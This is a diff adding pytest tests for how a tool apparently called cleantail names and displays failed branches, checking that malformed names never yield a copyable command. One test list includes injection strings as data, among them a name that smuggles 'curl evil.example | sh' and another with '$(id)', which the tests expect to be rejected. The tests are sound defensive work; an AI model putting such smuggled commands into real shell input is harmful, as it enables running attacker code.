@@ -4,6 +4,7 @@ import pytest
 
 from cleantail.config.topic import Topic
 from cleantail.log.partition_state import PartitionState, Quarantine
+from cleantail.log.work_units import round_name
 from cleantail.rounds.failed_branches import (
     KeptBranch,
     failed_name,
@@ -74,3 +75,34 @@ def test_where_there_is_no_branch_none_is_shown(state):
 @pytest.mark.parametrize("name", ["main", "ct_r_u0_12", "failed_by_hand"])
 def test_a_branch_that_no_failed_round_left_is_not_shown(name):
     assert kept_branch(held(name), 3, TOPIC, "lake", [name]) is None
+
+
+@pytest.mark.parametrize(
+    "number", ["²", "٣", "1" * 4_301, "1" * 12, "-5", "+5", " 5", ""], ids=lambda text: f"{text[:3]}-{len(text)}"
+)
+def test_a_name_that_ends_in_no_time_of_ours_is_no_failed_branch(number):
+    assert kept_until_ms(f"failed_x_{number}", 500) is None
+    assert past_their_time([f"failed_x_{number}"], 500, 10**15) == []
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "failed_x; curl evil.example | sh #_u0_1",
+        "failed_$(id)_u0_1",
+        "failed_a b_u0_1",
+        "failed_'--_u0_1",
+        "failed_r_u0_1\n",
+        "failed_\x1b[31mr_u0_1",
+        "failed_r_u²_1",
+        "failed_r_1",
+    ],
+)
+def test_no_command_to_copy_holds_a_name_that_no_round_gives_a_branch(name):
+    assert kept_branch(held(name), 3, TOPIC, "lake", [name]) is None
+
+
+def test_the_name_that_a_round_gives_is_shown_with_its_commands():
+    name = failed_name(round_name(1_764_000_000_123, 7), 3, "u", 1_764_000_000_123)
+    kept = kept_branch(held(name), 3, TOPIC, "lake", [name])
+    assert kept is not None and name in kept.command
